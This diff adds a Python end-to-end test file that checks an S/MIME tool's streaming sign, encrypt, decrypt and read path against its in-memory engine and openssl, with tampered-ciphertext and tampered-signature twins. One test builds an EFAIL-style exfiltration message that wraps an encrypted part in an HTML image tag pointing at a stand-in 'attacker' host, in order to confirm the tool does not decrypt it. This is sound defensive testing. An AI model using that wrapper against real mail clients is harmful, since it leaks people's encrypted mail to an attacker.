@@ -1,0 +1,276 @@
+#!/usr/bin/python3
+# SPDX-License-Identifier: Apache-2.0
+"""The bounded-memory path: sign, encrypt, decrypt and read streamed from file to file.
+
+Messages over 16 MiB take it automatically; `--stream` forces it on small ones, so each
+streamed result is compared with the in-memory engine's on the same input, and with openssl
+(which reads and writes the indefinite-length BER the streaming path produces). Each valid
+case has a twin that tampers one thing and must fail for that reason — for AES-GCM with no
+output file left behind (catalogue E3: no plaintext of a forged message is ever released).
+
+Run:  /usr/bin/python3 tests/e2e/test_streaming.py [-v] [--sealpost BIN]
+"""
+
+import base64
+import os
+import random
+import sys
+import unittest
+from pathlib import Path
+
+import e2e_util as u
+from e2e_util import OK, NOT_GOOD
+
+BIG_ATTACHMENT = 18 << 20  # bytes of attachment: the message is then over the 16 MiB limit
+
+
+def small_message(to="bob@example.org"):
+    return (b"From: Alice <alice@example.org>\r\nTo: Bob <" + to.encode() + b">\r\n"
+            b"Subject: streaming\r\nMIME-Version: 1.0\r\nContent-Type: text/plain; charset=us-ascii\r\n\r\n"
+            b"Hello Bob,\r\nthe figures are attached.\r\n")
+
+
+def big_message(path, seed=1):
+    """A multipart/mixed message with an ~18 MiB base64 attachment, LF line ends."""
+    rnd = random.Random(seed)
+    payload = rnd.randbytes(BIG_ATTACHMENT)
+    with open(path, "wb") as f:
+        f.write(b"From: Alice <alice@example.org>\nTo: Bob <bob@example.org>\nSubject: big\n"
+                b"MIME-Version: 1.0\nContent-Type: multipart/mixed; boundary=\"mix\"\n\n"
+                b"--mix\nContent-Type: text/plain\n\nsee the attachment\n--mix\n"
+                b"Content-Type: application/octet-stream\nContent-Transfer-Encoding: base64\n\n")
+        f.write(base64.encodebytes(payload))
+        f.write(b"--mix--\n")
+    return payload
+
+
+def body_der(path):
+    """The CMS DER of a pkcs7-mime message file (base64 body)."""
+    data = Path(path).read_bytes()
+    head, _, body = data.partition(b"\r\n\r\n")
+    return base64.b64decode(b"".join(body.split()))
+
+
+def with_der(path, out, der):
+    data = Path(path).read_bytes()
+    head, _, _ = data.partition(b"\r\n\r\n")
+    Path(out).write_bytes(head + b"\r\n\r\n" + base64.encodebytes(der))
+
+
+def leftovers(directory):
+    return [p.name for p in Path(directory).iterdir() if ".tmp-" in p.name]
+
+
+class StreamingTest(unittest.TestCase):
+    @classmethod
+    def setUpClass(cls):
+        cls.w = u.world()
+        cls.alice = cls.w.profile("alice-rsa")
+        cls.bob = cls.w.profile("bob-rsa")
+        cls.bob_cert = cls.w.cert("bob", "rsa")
+
+    def setUp(self):
+        self.d = self.w.scratch(self.id().split(".")[-1])
+
+    # -- small messages, --stream against the in-memory engine ---------------------------
+
+    def encrypt_small(self, cipher, stream=True):
+        src = self.d / "msg.eml"
+        src.write_bytes(small_message())
+        out = self.d / f"msg-{cipher}-{'s' if stream else 'm'}.p7m"
+        self.alice.run("encrypt", "--in", src, "--out", out, "--recipient-cert", self.bob_cert,
+                       "--cipher", cipher, *(["--stream"] if stream else []), expect=OK)
+        return out
+
+    def test_streamed_encryption_decrypts_like_in_memory(self):
+        for cipher in ("aes-256-cbc", "aes-256-gcm", "aes-128-gcm"):
+            with self.subTest(cipher=cipher):
+                streamed, reference = self.encrypt_small(cipher), self.encrypt_small(cipher, stream=False)
+                outs = []
+                for i, (src, flag) in enumerate([(streamed, ["--stream"]), (streamed, []), (reference, ["--stream"])]):
+                    out = self.d / f"dec-{cipher}-{i}.eml"
+                    self.bob.run("decrypt", "--in", src, "--out", out, *flag, expect=OK)
+                    outs.append(out.read_bytes())
+                self.assertEqual(outs[0], outs[1])
+                self.assertEqual(outs[0], outs[2])
+                self.assertIn(b"the figures are attached", outs[0])
+                # openssl reads the indefinite-length BER the stream writes
+                plain = u.cms_decrypt_raw(body_der(streamed), self.bob_cert, self.w.pki.key("bob", "rsa"), self.d)
+                self.assertIn(b"the figures are attached", plain)
+
+    def test_streamed_decryption_reads_openssl_stream_output(self):
+        src = self.d / "entity.txt"
+        src.write_bytes(b"Content-Type: text/plain\r\n\r\nfrom openssl -stream\r\n" * 2000)
+        der = u.openssl("cms", "-encrypt", "-stream", "-binary", "-aes-256-cbc", "-outform", "DER",
+                        "-in", src, self.bob_cert)
+        self.assertEqual(der[1], 0x80, "openssl -stream should write indefinite lengths")
+        msg = self.d / "openssl.p7m"
+        msg.write_bytes(b"From: a@example.org\r\nTo: bob@example.org\r\nMIME-Version: 1.0\r\n"
+                        b"Content-Type: application/pkcs7-mime; smime-type=enveloped-data\r\n"
+                        b"Content-Transfer-Encoding: base64\r\n\r\n" + base64.encodebytes(der))
+        out = self.d / "out.eml"
+        self.bob.run("decrypt", "--in", msg, "--out", out, "--stream", expect=OK)
+        self.assertEqual(out.read_bytes().count(b"from openssl -stream"), 2000)
+
+    def test_gcm_tag_flip_streamed_releases_nothing(self):
+        streamed = self.encrypt_small("aes-256-gcm")
+        der = bytearray(body_der(streamed))
+        # The stream ends: mac OCTET STRING (16 bytes), then six end-of-contents octets.
+        self.assertEqual(bytes(der[-6:]), b"\0" * 6)
+        self.assertEqual(der[-6 - 18], 0x04)
+        der[-7] ^= 0x01
+        forged = self.d / "forged.p7m"
+        with_der(streamed, forged, bytes(der))
+        out = self.d / "forged-out.eml"
+        r = self.bob.run("decrypt", "--in", forged, "--out", out, "--stream", expect=NOT_GOOD)
+        self.assertIn(b"authentication tag", r.stderr)
+        self.assertFalse(out.exists())
+        self.assertEqual(leftovers(self.d), [])
+        # the untouched twin decrypts
+        self.bob.run("decrypt", "--in", streamed, "--out", out, "--stream", expect=OK)
+
+    def test_gcm_ciphertext_flip_streamed_releases_nothing(self):
+        streamed = self.encrypt_small("aes-256-gcm")
+        der = bytearray(body_der(streamed))
+        der[len(der) - 40] ^= 0x80  # inside the last ciphertext chunk
+        forged = self.d / "forged.p7m"
+        with_der(streamed, forged, bytes(der))
+        out = self.d / "forged-out.eml"
+        self.bob.run("decrypt", "--in", forged, "--out", out, "--stream", expect=NOT_GOOD)
+        self.assertFalse(out.exists())
+        _, verdict = u.examine(self.bob, "read", forged, "--stream")
+        self.assertEqual(verdict["layers"][0]["status"], "integrity")
+        self.assertFalse(verdict["encrypted"] and verdict["exit_code"] == 0)
+        self.assertEqual(verdict.get("body") or "", "")
+
+    def test_streamed_sign_verifies_in_memory_and_with_openssl(self):
+        src = self.d / "msg.eml"
+        src.write_bytes(small_message())
+        signed = self.d / "signed.eml"
+        self.alice.run("sign", "--in", src, "--out", signed, "--stream", expect=OK)
+        for flag in ([], ["--stream"]):
+            _, verdict = u.examine(self.bob, "verify", signed, *flag)
+            self.assertEqual(verdict["exit_code"], 0, verdict)
+            self.assertEqual(verdict["signatures"][0]["status"], "valid")
+            self.assertTrue(verdict["signatures"][0]["covers_whole_message"])
+        u.openssl("cms", "-verify", "-in", signed, "-CAfile", self.w.pki.root, "-purpose", "any",
+                  "-certfile", self.w.pki.intermediate, "-out", self.d / "openssl.out")
+        # twin: one body byte changed
+        tampered = self.d / "tampered.eml"
+        tampered.write_bytes(signed.read_bytes().replace(b"figures are", b"figures arE"))
+        _, verdict = u.examine(self.bob, "verify", tampered, "--stream")
+        self.assertEqual(verdict["signatures"][0]["status"], "invalid")
+        self.assertNotEqual(verdict["exit_code"], 0)
+
+    def test_streamed_multipart_signed_with_three_parts_is_malformed(self):
+        src = self.d / "msg.eml"
+        src.write_bytes(small_message())
+        signed = self.d / "signed.eml"
+        self.alice.run("sign", "--in", src, "--out", signed, expect=OK)
+        data = signed.read_bytes()
+        boundary = data.split(b'boundary="')[1].split(b'"')[0]
+        extra = b"--" + boundary + b"\r\nContent-Type: text/plain\r\n\r\nextra part\r\n--" + boundary + b"--"
+        three = self.d / "three.eml"
+        three.write_bytes(data.replace(b"--" + boundary + b"--", extra))
+        _, verdict = u.examine(self.bob, "verify", three, "--stream")
+        self.assertEqual(verdict["layers"][0]["status"], "malformed")
+        self.assertIn("exactly two parts", verdict["layers"][0]["error"])
+        self.assertEqual(verdict["signatures"], [])
+        _, twin = u.examine(self.bob, "verify", signed, "--stream")
+        self.assertEqual(twin["exit_code"], 0)
+
+    def test_streamed_read_does_not_decrypt_a_non_root_encrypted_part(self):
+        inner = self.encrypt_small("aes-256-gcm")
+        part = inner.read_bytes().partition(b"MIME-Version: 1.0\r\n")[2]
+        mixed = self.d / "efail.eml"
+        mixed.write_bytes(b"From: eve@example.org\r\nTo: bob@example.org\r\nMIME-Version: 1.0\r\n"
+                          b"Content-Type: multipart/mixed; boundary=\"x\"\r\n\r\n--x\r\n"
+                          b"Content-Type: text/html\r\n\r\n<img src=\"http://attacker/?\r\n--x\r\n" + part +
+                          b"\r\n--x\r\nContent-Type: text/html\r\n\r\n\">\r\n--x--\r\n")
+        _, verdict = u.examine(self.bob, "read", mixed, "--stream")
+        self.assertEqual([l["status"] for l in verdict["layers"]], ["not-decrypted"])
+        self.assertFalse(verdict["encrypted"])
+        # twin: the same encrypted message as the root decrypts
+        _, root = u.examine(self.bob, "read", inner, "--stream")
+        self.assertEqual(root["layers"][0]["status"], "ok")
+        self.assertTrue(root["encrypted"])
+
+    # -- messages over 16 MiB: the automatic path -----------------------------------------
+
+    def test_big_message_encrypt_decrypt_round_trip(self):
+        src = self.d / "big.eml"
+        big_message(src)
+        for cipher in ("aes-256-cbc", "aes-256-gcm"):
+            with self.subTest(cipher=cipher):
+                enc = self.d / f"big-{cipher}.p7m"
+                self.alice.run("encrypt", "--in", src, "--out", enc, "--recipient-cert", self.bob_cert,
+                               "--cipher", cipher, expect=OK)
+                dec = self.d / f"big-{cipher}.eml"
+                self.bob.run("decrypt", "--in", enc, "--out", dec, expect=OK)
+                self.assertEqual(dec.read_bytes().replace(b"\r\n", b"\n").split(b"MIME-Version: 1.0\n", 1)[1],
+                                 src.read_bytes().split(b"MIME-Version: 1.0\n", 1)[1])
+                self.assertEqual(os.stat(dec).st_mode & 0o777, 0o600)
+
+    def test_big_gcm_tag_flip_releases_nothing(self):
+        src = self.d / "big.eml"
+        big_message(src, seed=2)
+        enc = self.d / "big.p7m"
+        self.alice.run("encrypt", "--in", src, "--out", enc, "--recipient-cert", self.bob_cert,
+                       "--cipher", "aes-256-gcm", expect=OK)
+        der = bytearray(body_der(enc))
+        der[-7] ^= 0x01
+        forged = self.d / "forged.p7m"
+        with_der(enc, forged, bytes(der))
+        out = self.d / "out.eml"
+        self.bob.run("decrypt", "--in", forged, "--out", out, expect=NOT_GOOD)
+        self.assertFalse(out.exists())
+        self.assertEqual(leftovers(self.d), [])
+
+    def test_big_message_sign_verify_and_tampered_twin(self):
+        src = self.d / "big.eml"
+        big_message(src, seed=3)
+        signed = self.d / "big-signed.eml"
+        self.alice.run("sign", "--in", src, "--out", signed, expect=OK)
+        _, verdict = u.examine(self.bob, "verify", signed)
+        self.assertEqual(verdict["exit_code"], 0, verdict)
+        self.assertTrue(verdict["signatures"][0]["covers_whole_message"])
+        u.openssl("cms", "-verify", "-in", signed, "-CAfile", self.w.pki.root, "-purpose", "any",
+                  "-certfile", self.w.pki.intermediate, "-out", "/dev/null")
+        data = bytearray(signed.read_bytes())
+        middle = len(data) // 2
+        data[middle] = ord("A") if data[middle] != ord("A") else ord("B")
+        tampered = self.d / "big-tampered.eml"
+        tampered.write_bytes(bytes(data))
+        _, verdict = u.examine(self.bob, "verify", tampered)
+        self.assertEqual(verdict["signatures"][0]["status"], "invalid")
+        self.assertIn("changed", verdict["signatures"][0]["detail"])
+
+    def test_big_protect_then_read(self):
+        src = self.d / "big.eml"
+        big_message(src, seed=4)
+        prot = self.d / "big-protected.p7m"
+        self.alice.run("protect", "--sign", "--encrypt", "--in", src, "--out", prot,
+                       "--recipient-cert", self.bob_cert, expect=OK)
+        _, verdict = u.examine(self.bob, "read", prot)
+        self.assertEqual(verdict["exit_code"], 0, verdict)
+        self.assertTrue(verdict["encrypted"])
+        self.assertTrue(verdict["signed"])
+        self.assertEqual([l["kind"] for l in verdict["layers"]], ["encrypted", "signed"])
+
+    def test_big_8bit_message_is_not_signed_by_streaming(self):
+        src = self.d / "big8.eml"
+        with open(src, "wb") as f:
+            f.write(b"From: alice@example.org\nTo: bob@example.org\nSubject: 8bit\n"
+                    b"Content-Type: text/plain; charset=utf-8\nContent-Transfer-Encoding: 8bit\n\n")
+            f.write(("Grüße\n" * (3 << 20)).encode())
+        out = self.d / "signed.eml"
+        r = self.alice.run("sign", "--in", src, "--out", out)
+        self.assertNotEqual(r.rc, OK)
+        self.assertIn(b"8-bit", r.stderr)
+        self.assertFalse(out.exists())
+        self.assertEqual(leftovers(self.d), [])
+
+
+if __name__ == "__main__":
+    sys.argv = u.sealpost_cli.take_binary_arg(sys.argv)
+    unittest.main()
